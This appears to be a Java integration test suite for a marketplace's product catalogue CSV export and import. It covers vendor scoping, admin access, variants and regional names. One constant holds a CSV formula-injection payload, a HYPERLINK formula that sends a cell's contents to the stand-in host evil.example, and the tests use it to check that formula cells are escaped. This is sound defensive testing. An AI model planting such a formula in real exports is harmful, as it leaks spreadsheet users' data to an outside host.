package dev.agora.product;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.http.MediaType;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Catalogue export to CSV: the import's columns, a vendor's own products only, formula cells
 * escaped, and a file that imports back to the same products.
 */
class CatalogueExportIT extends CatalogTestBase {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a discount\")";

    private byte[] export(String token, String query, int status) {
        return http.get().uri("/api/v1/products/export" + query).headers(h -> h.setBearerAuth(token)).exchange()
            .expectStatus().isEqualTo(status).expectBody().returnResult().getResponseBody();
    }

    private static List<CSVRecord> records(byte[] body) throws IOException {
        String text = new String(body, StandardCharsets.UTF_8);
        assertThat(text).as("a byte order mark, so spreadsheets read the file as UTF-8").startsWith("\uFEFF");
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
            .parse(new StringReader(text.substring(1))).getRecords();
    }

    @Test
    void aVendorExportsItsOwnCatalogueWithFormulaCellsEscaped() throws IOException {
        UUID lamps = category("Export Lamps", null);
        UUID shades = category("Export Shades", lamps);
        TestVendor vendor = verifiedVendor("Exporter");
        TestVendor other = verifiedVendor("Not Exported");
        Map<String, Object> tricky = product("Trick Lamp", "EXP-1", "19.99", lamps, shades);
        tricky.put("description", HYPERLINK);
        tricky.put("tags", List.of("@home", "brass"));
        tricky.put("compareAtPrice", Map.of("amount", "24.50", "currency", "USD"));
        tricky.put("weightGrams", 1200);
        create(vendor.token(), tricky);
        Map<String, Object> draft = product("Draft Lamp", "EXP-2", "5.00", lamps);
        draft.put("status", "draft");
        create(vendor.token(), draft);
        String archived = (String) create(vendor.token(), product("Old Lamp", "EXP-3", "7.00", lamps)).get("id");
        http.delete().uri("/api/v1/products/{id}", archived).headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isNoContent();
        create(other.token(), product("Someone Else's Lamp", "EXP-OTHER", "9.00", lamps));

        var response = http.get().uri("/api/v1/products/export").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isOk()
            .expectHeader().contentType("text/csv;charset=UTF-8")
            .expectHeader().valueMatches("Content-Disposition", "attachment; filename=\"agora-products-\\d{4}-\\d{2}-\\d{2}\\.csv\"")
            .expectHeader().valueEquals("Cache-Control", "no-store")
            .expectBody().returnResult();
        List<CSVRecord> rows = records(response.getResponseBody());
        assertThat(rows.getFirst().getParser().getHeaderNames()).containsExactly("sku", "name", "price", "currency",
                "categories", "description", "status", "compare_at_price", "tags", "images", "weight_grams", "vendor_id", "barcode",
                "variants");
        // Archived products are left out unless asked for; other vendors' products never appear.
        assertThat(rows).extracting(r -> r.get("sku")).containsExactly("EXP-1", "EXP-2");
        CSVRecord first = rows.getFirst();
        assertThat(first.get("description")).isEqualTo("'" + HYPERLINK);
        assertThat(first.get("tags")).isEqualTo("'@home|brass");
        assertThat(first.get("categories")).isEqualTo("export-lamps|export-shades");
        assertThat(first.get("price")).isEqualTo("19.99");
        assertThat(first.get("compare_at_price")).isEqualTo("24.50");
        assertThat(first.get("images")).isEqualTo("https://img.example/EXP-1.jpg");
        assertThat(first.get("weight_grams")).isEqualTo("1200");
        assertThat(first.get("status")).isEqualTo("active");
        assertThat(first.get("vendor_id")).isEqualTo(vendor.id().toString());
        assertThat(rows.get(1).get("status")).isEqualTo("draft");
        assertThat(rows.get(1).get("compare_at_price")).isEmpty();
        assertThat(first.get("variants")).as("sold as itself").isEmpty();

        assertThat(records(export(vendor.token(), "?status=archived", 200))).extracting(r -> r.get("sku"))
            .containsExactly("EXP-3");
    }

    @Test
    void anExportImportsBackToTheSameProducts() throws IOException {
        UUID mugs = category("Round Trip Mugs", null);
        TestVendor vendor = verifiedVendor("Round Tripper");
        Map<String, Object> mug = product("Formula Mug", "RT-1", "12.00", mugs);
        mug.put("description", HYPERLINK);
        mug.put("tags", List.of("-sale", "'=quoted", "plain"));
        create(vendor.token(), mug);

        // The export under new SKUs, as a vendor copying a catalogue between shops would send it.
        String csv = new String(export(vendor.token(), "", 200), StandardCharsets.UTF_8).replace("RT-1,", "RT-2,");
        Map<String, Object> job = awaitDone(vendor.token(), upload(vendor.token(), csv, null, 202));
        assertThat(job).containsEntry("status", "completed").containsEntry("succeeded", 1).containsEntry("failed", 0);

        http.get().uri("/api/v1/products/sku/RT-2").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isOk().expectBody()
            .jsonPath("$.description").isEqualTo(HYPERLINK)
            .jsonPath("$.tags[0]").isEqualTo("-sale").jsonPath("$.tags[1]").isEqualTo("'=quoted")
            .jsonPath("$.tags[2]").isEqualTo("plain")
            .jsonPath("$.price.amount").isEqualTo("12.00")
            .jsonPath("$.categoryIds[0]").isEqualTo(mugs.toString())
            .jsonPath("$.images[0].url").isEqualTo("https://img.example/RT-1.jpg");
    }

    @Test
    @SuppressWarnings("unchecked")
    void variantsExportInOneCellAndImportBackAsVariants() throws IOException {
        UUID shirts = category("Export Variant Shirts", null);
        TestVendor vendor = verifiedVendor("Variant Exporter");
        Map<String, Object> shirt = product("Linen Shirt", "VEX-1", "20.00", shirts);
        shirt.put("variants", List.of(
                Map.of("sku", "VEX-1-S", "price", Map.of("amount", "20.00", "currency", "USD"),
                        "options", Map.of("size", "S", "colour", "sand; light, =washed|")),
                Map.of("sku", "VEX-1-M", "price", Map.of("amount", "22.50", "currency", "USD"), "barcode", "7612345678900",
                        "options", Map.of("size", "M", "colour", "sand; light, =washed|"))));
        create(vendor.token(), shirt);

        byte[] exported = export(vendor.token(), "", 200);
        CSVRecord row = records(exported).getFirst();
        assertThat(row.get("variants")).isEqualTo("VEX-1-S;20.00;colour=sand\\; light\\, \\=washed\\|,size=S"
                + "|VEX-1-M;22.50;colour=sand\\; light\\, \\=washed\\|,size=M;7612345678900");

        // Imported under new SKUs (and without the taken barcode), the shirt comes back with the same variants.
        String csv = new String(exported, StandardCharsets.UTF_8).replace("VEX-1", "VEX-2").replace(";7612345678900", "");
        assertThat(awaitDone(vendor.token(), upload(vendor.token(), csv, null, 202))).containsEntry("succeeded", 1);
        Map<String, Object> copy = http.get().uri("/api/v1/products/sku/VEX-2").headers(h -> h.setBearerAuth(vendor.token()))
            .exchange().expectStatus().isOk().expectBody(Map.class).returnResult().getResponseBody();
        List<Map<String, Object>> variants = (List<Map<String, Object>>) copy.get("variants");
        assertThat(variants).extracting(v -> v.get("sku")).containsExactly("VEX-2-S", "VEX-2-M");
        assertThat(variants).extracting(v -> ((Map<String, Object>) v.get("price")).get("amount")).containsExactly("20.00", "22.50");
        assertThat(variants).extracting(v -> v.get("options")).containsExactly(
                Map.of("size", "S", "colour", "sand; light, =washed|"), Map.of("size", "M", "colour", "sand; light, =washed|"));

        // A cell that is not variants, a variant's bad price, and a variant SKU another product has are that row's errors.
        String bad = "sku,name,price,currency,categories,variants\n"
                + "VEX-3,Shirt,20.00,USD,export-variant-shirts,VEX-3-S;20.00\n"
                + "VEX-4,Shirt,20.00,USD,export-variant-shirts,VEX-4-S;cheap;size=S\n"
                + "VEX-5,Shirt,20.00,USD,export-variant-shirts,VEX-1-S;20.00;size=S\n"
                + "VEX-6,Shirt,20.00,USD,export-variant-shirts,VEX-6-S;20.00;size=S|VEX-6-M;21.00;size=M\n";
        Map<String, Object> job = awaitDone(vendor.token(), upload(vendor.token(), bad, null, 202));
        assertThat(job).containsEntry("succeeded", 1).containsEntry("failed", 3);
        List<Map<String, Object>> errors = (List<Map<String, Object>>) job.get("errors");
        assertThat(errors).extracting(e -> e.get("row") + ":" + e.get("field")).containsExactlyInAnyOrder("2:variants", "3:variants",
                "4:row");
        assertThat(errors).extracting(e -> (String) e.get("message")).anyMatch(m -> m.contains("sku;price;options"))
            .anyMatch(m -> m.contains("SKU already exists"));
        for (String sku : List.of("VEX-3", "VEX-4", "VEX-5")) {
            http.get().uri("/api/v1/products/sku/{sku}", sku).headers(h -> h.setBearerAuth(vendor.token())).exchange()
                .expectStatus().isNotFound();
        }
    }

    @Test
    void adminsExportAnyVendorAndOthersAreRefused() throws IOException {
        UUID bowls = category("Export Bowls", null);
        TestVendor vendor = verifiedVendor("Bowl Maker");
        TestVendor other = verifiedVendor("Bowl Rival");
        create(vendor.token(), product("Bowl", "EXB-1", "3.00", bowls));
        create(other.token(), product("Rival Bowl", "EXB-2", "4.00", bowls));

        assertThat(records(export(admin(), "?vendor=" + vendor.id(), 200))).extracting(r -> r.get("sku"))
            .containsExactly("EXB-1");
        List<String> all = new ArrayList<>();
        records(export(admin(), "", 200)).forEach(r -> all.add(r.get("sku")));
        assertThat(all).contains("EXB-1", "EXB-2");

        // Another vendor's catalogue is not found, not forbidden: its existence is not the caller's business.
        http.get().uri("/api/v1/products/export?vendor={v}", vendor.id()).headers(h -> h.setBearerAuth(other.token()))
            .exchange().expectStatus().isNotFound().expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON);
        http.get().uri("/api/v1/products/export?status=sold").headers(h -> h.setBearerAuth(vendor.token()))
            .exchange().expectStatus().isBadRequest().expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
            .expectBody().jsonPath("$.errors[0].field").isEqualTo("status");
        http.get().uri("/api/v1/products/export?vendor=nope").headers(h -> h.setBearerAuth(admin()))
            .exchange().expectStatus().isBadRequest().expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON);
        http.get().uri("/api/v1/products/export").headers(h -> h.setBearerAuth(customer(UUID.randomUUID())))
            .exchange().expectStatus().isForbidden();
        http.get().uri("/api/v1/products/export").exchange().expectStatus().isUnauthorized();
    }

    @Test
    void aCatalogueLargerThanOnePageOfTheQueryExportsWhole() throws IOException {
        category("Export Bulk", null);
        TestVendor vendor = verifiedVendor("Bulk Exporter");
        StringBuilder csv = new StringBuilder("sku,name,price,currency,categories\n");
        int count = 1234;
        for (int i = 0; i < count; i++) {
            csv.append("EXBULK-").append(i).append(",Bulk ").append(i).append(",1.00,USD,export-bulk\n");
        }
        assertThat(awaitDone(vendor.token(), upload(vendor.token(), csv.toString(), null, 202))).containsEntry("succeeded", count);
        List<CSVRecord> rows = records(export(vendor.token(), "", 200));
        assertThat(rows).hasSize(count);
        assertThat(rows).extracting(r -> r.get("sku")).doesNotHaveDuplicates();
    }

    @Test
    void regionalNamesExportAsAColumnPerLanguageAndImportBack() throws IOException {
        UUID lamps = category("Export Regional Lamps", null);
        TestVendor vendor = verifiedVendor("Regional Exporter");
        Map<String, Object> brass = product("Brass Lamp", "RN-1", "30.00", lamps);
        brass.put("names", Map.of("hi-IN", "पीतल का दीपक", "ta-IN", "=பித்தளை, விளக்கு"));
        create(vendor.token(), brass);
        create(vendor.token(), product("Plain Lamp", "RN-2", "10.00", lamps));

        byte[] exported = export(vendor.token(), "", 200);
        List<CSVRecord> rows = records(exported);
        assertThat(rows.getFirst().getParser().getHeaderNames()).endsWith("barcode", "variants", "name:hi-IN", "name:ta-IN");
        assertThat(rows).extracting(r -> r.get("sku")).containsExactly("RN-1", "RN-2");
        assertThat(rows.get(0).get("name:hi-IN")).isEqualTo("पीतल का दीपक");
        assertThat(rows.get(0).get("name:ta-IN")).isEqualTo("'=பித்தளை, விளக்கு");
        assertThat(rows.get(1).get("name:hi-IN")).isEmpty();

        String csv = new String(exported, StandardCharsets.UTF_8).replace("RN-1,", "RN-3,").replace("RN-2,", "RN-4,");
        assertThat(awaitDone(vendor.token(), upload(vendor.token(), csv, null, 202))).containsEntry("succeeded", 2);
        http.get().uri("/api/v1/products/sku/RN-3").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isOk().expectBody()
            .jsonPath("$.names['hi-IN']").isEqualTo("पीतल का दीपक")
            .jsonPath("$.names['ta-IN']").isEqualTo("=பித்தளை, விளக்கு");
        http.get().uri("/api/v1/products/sku/RN-4").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isOk().expectBody().jsonPath("$.names").isEmpty();
    }

    @Test
    void anImportReadsRegionalNamesWhateverTheCaseOfTheirColumnsAndRefusesColumnsThatNameNoLanguage() {
        category("Import Regional Mugs", null);
        TestVendor vendor = verifiedVendor("Regional Importer");
        String csv = "sku,name,price,currency,categories,NAME:HI-in,name:ta\n"
                + "RNI-1,Mug,4.00,USD,import-regional-mugs,मग,குவளை\n";
        assertThat(awaitDone(vendor.token(), upload(vendor.token(), csv, null, 202))).containsEntry("succeeded", 1);
        http.get().uri("/api/v1/products/sku/RNI-1").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isOk().expectBody()
            .jsonPath("$.names['hi-IN']").isEqualTo("मग").jsonPath("$.names['ta']").isEqualTo("குவளை");

        for (String column : List.of("name:not a language", "name:en_US", "name:123")) {
            importRequest(vendor.token(), "sku,name,price,currency,categories," + column
                    + "\nRNI-2,Mug,4.00,USD,import-regional-mugs,x\n", null)
                .expectStatus().isBadRequest().expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
                .expectBody().jsonPath("$.errors[0].message").value(m -> assertThat((String) m).contains("names no language"));
        }
        http.get().uri("/api/v1/products/sku/RNI-2").headers(h -> h.setBearerAuth(vendor.token())).exchange()
            .expectStatus().isNotFound();
    }
}
